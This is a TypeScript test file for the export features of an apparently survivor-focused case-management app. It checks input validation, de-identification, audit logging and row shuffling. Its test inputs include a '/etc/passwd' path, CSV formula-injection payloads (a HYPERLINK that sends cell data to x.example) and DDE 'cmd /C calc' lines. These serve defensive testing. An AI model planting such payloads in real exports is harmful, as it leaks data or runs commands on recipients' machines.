// Attacks on the exports that held up when a reviewing helper tried them (hostile payloads, part-year
// scopes, free text in coded fields, formula cells, audit counts, row order, values in the report):
// kept so that they go on holding.
import { describe, expect, it } from 'vitest'
import { readdirSync, readFileSync, rmSync } from 'node:fs'
import { call, errorCode } from './support/temp-vault'
import { createCase, signInAs, staffedHost, survivorCase } from './support/case-fixtures'
import { csvRecords, untar } from './support/export-files'
import { PLAINTEXT, CONTROL, woman } from './support/deidentified-fixtures'
import type { AuditEntry, ExportResult } from '../../main/api/contract'

const exportsLogged = async (host: Parameters<typeof call>[0]) =>
  (await call<AuditEntry[]>(host, 'audit:list', { limit: 500 })).filter(
    (entry) => entry.action === 'export.created',
  )

describe('attacks on the exports', () => {
  it('refuses hostile export payloads (extra keys, a path, wrong types, huge strings, k out of range) and writes nothing', async () => {
    const { host, files } = await staffedHost('dana')
    await createCase(host)
    const bad: unknown[] = [
      { format: 'htcds-json', protection: PLAINTEXT, path: '/etc/passwd' },
      { format: 'htcds-json', protection: { ...PLAINTEXT, path: '/tmp/x' } },
      { format: 'htcds-json', protection: PLAINTEXT, scope: { intakeFrom: '2026-01-01', caseIds: [1] } },
      { format: 5, protection: PLAINTEXT },
      { format: 'htcds-json', protection: 'plaintext' },
      { format: 'htcds-json', protection: { plaintext: 'true', confirmed: true } },
      { format: 'htcds-json', protection: { passphrase: 'x'.repeat(2_000_000) } },
      { format: 'htcds-json', protection: PLAINTEXT, scope: { intakeFrom: 'x'.repeat(1_000_000) } },
      { format: 'htcds-json', protection: PLAINTEXT, scope: { intakeFrom: '2026-02-30' } },
      { format: 'deidentified-csv', protection: PLAINTEXT, k: 4 },
      { format: 'deidentified-csv', protection: PLAINTEXT, k: 5.5 },
      { format: 'deidentified-csv', protection: PLAINTEXT, k: 1e9 },
      { format: 'deidentified-csv', protection: PLAINTEXT, k: '6' },
      { format: 'htcds-json', protection: { recipients: ['age1' + 'q'.repeat(58), 'not a key'] } },
      {
        format: 'htcds-json',
        protection: { passphrase: 'granite heron counts twelve slow tides', recipients: [] },
      },
      null,
      [],
      'htcds-json',
    ]
    for (const input of bad)
      expect(await errorCode(host, 'export:run', input), JSON.stringify(input)?.slice(0, 80)).toBe(
        'VALIDATION',
      )
    expect(readdirSync(files.folder)).toEqual([])
    expect(await exportsLogged(host)).toEqual([])
  })

  it('refuses part-year scopes for every de-identified format, not only the CaseVault columns', async () => {
    const { host } = await staffedHost('eli')
    for (const format of ['ctdc-csv', 'aggregates-csv']) {
      expect(
        await errorCode(host, 'export:run', {
          format,
          protection: PLAINTEXT,
          scope: { intakeFrom: '2026-03-01' },
        }),
      ).toBe('VALIDATION')
      expect(
        await errorCode(host, 'export:run', {
          format,
          protection: PLAINTEXT,
          scope: { intakeTo: '2026-11-30' },
        }),
      ).toBe('VALIDATION')
    }
  })

  it('keeps free text out of coded fields: a name typed as a means of control or relationship is refused', async () => {
    const { host } = await staffedHost('bilal')
    const free = survivorCase({
      victim: { vic_MethodsOfControl: ['Other: beaten by uncle Karim in Mashhad'] },
    })
    expect(await errorCode(host, 'cases:create', free)).toBe('VALIDATION')
    const relation = survivorCase({ victim: { vic_RelationshipToTrafficker: 'Karim Dastan' } })
    expect(await errorCode(host, 'cases:create', relation)).toBe('VALIDATION')
  })

  it('guards every formula-like cell of the full HTCDS CSV (names, aliases, comments)', async () => {
    const { host } = await staffedHost('dana')
    const hostile = [
      '=HYPERLINK("http://x.example/?"&A1,"open")',
      '+1+cmd|"/C calc"!A0',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
    ]
    const made = await createCase(
      host,
      survivorCase({
        survivor: { prs_FirstName: hostile[0]!, prs_SecondName: hostile[1]!, prs_Gender: 'Feminine' },
        survivorAliases: hostile.slice(2),
      }),
    )
    await call(host, 'comments:add', { caseId: made.id, body: '=cmd|" /C calc"!A0' })
    const result = await call<ExportResult>(host, 'export:run', {
      format: 'htcds-csv',
      protection: PLAINTEXT,
    })
    const tables = await untar(readFileSync(result.file!))
    let seen = 0
    for (const [name, bytes] of tables) {
      for (const row of csvRecords(bytes)) {
        for (const [column, value] of Object.entries(row)) {
          expect(/^[=+\-@\t\r]/.test(value), `${name} ${column}: ${JSON.stringify(value)}`).toBe(false)
          if (value.startsWith("'")) seen += 1
        }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(hostile.length + 1)
  })

  it('logs each de-identified export once, with the rows the file holds; a failed write logs nothing', async () => {
    const { host, files } = await staffedHost('dana')
    for (let i = 0; i < 6; i += 1) await createCase(host, woman(i))
    await signInAs(host, 'eli')
    const result = await call<ExportResult>(host, 'export:run', {
      format: 'deidentified-csv',
      protection: PLAINTEXT,
    })
    const rows = csvRecords(readFileSync(result.file!)).length
    rmSync(files.folder, { recursive: true, force: true })
    expect(await errorCode(host, 'export:run', { format: 'ctdc-csv', protection: PLAINTEXT })).not.toBe('OK')
    await signInAs(host, 'amara')
    const logged = await exportsLogged(host)
    expect(logged).toHaveLength(1)
    expect(logged[0]!.details).toMatchObject({
      format: 'deidentified-csv',
      rows,
      protection: 'plaintext',
      k: 5,
    })
  })

  it('shuffles de-identified rows: their order does not follow the order the cases were created in', async () => {
    const { host } = await staffedHost('dana')
    for (let i = 0; i < CONTROL.length; i += 1) await createCase(host, woman(i))
    await signInAs(host, 'eli')
    const orders: string[] = []
    for (let run = 0; run < 3; run += 1) {
      const result = await call<ExportResult>(host, 'export:run', {
        format: 'deidentified-csv',
        protection: PLAINTEXT,
      })
      orders.push(
        csvRecords(readFileSync(result.file!))
          .map((row) => row.methods_of_control)
          .join(','),
      )
    }
    // 10 rows: the creation order three times running has odds of 1 in (10!)^3.
    expect(orders.every((order) => order === CONTROL.join(','))).toBe(false)
    expect(new Set(orders).size).toBeGreaterThan(1)
  })

  it('names no value in the de-identification report: quasi-identifier names, levels, years and counts only', async () => {
    const { host } = await staffedHost('dana')
    for (let i = 0; i < 6; i += 1) await createCase(host, woman(i))
    await createCase(
      host,
      survivorCase({
        survivor: { prs_FirstName: 'Yusuf', prs_Gender: 'TransgenderMasculine', prs_Citizenship: ['AF'] },
      }),
    )
    await signInAs(host, 'eli')
    const result = await call<ExportResult>(host, 'export:run', {
      format: 'deidentified-csv',
      protection: PLAINTEXT,
    })
    expect(JSON.stringify(result.report)).not.toMatch(/Yusuf|AF|Transgender|UA|PL|Name\d|SHS-/)
  })
})
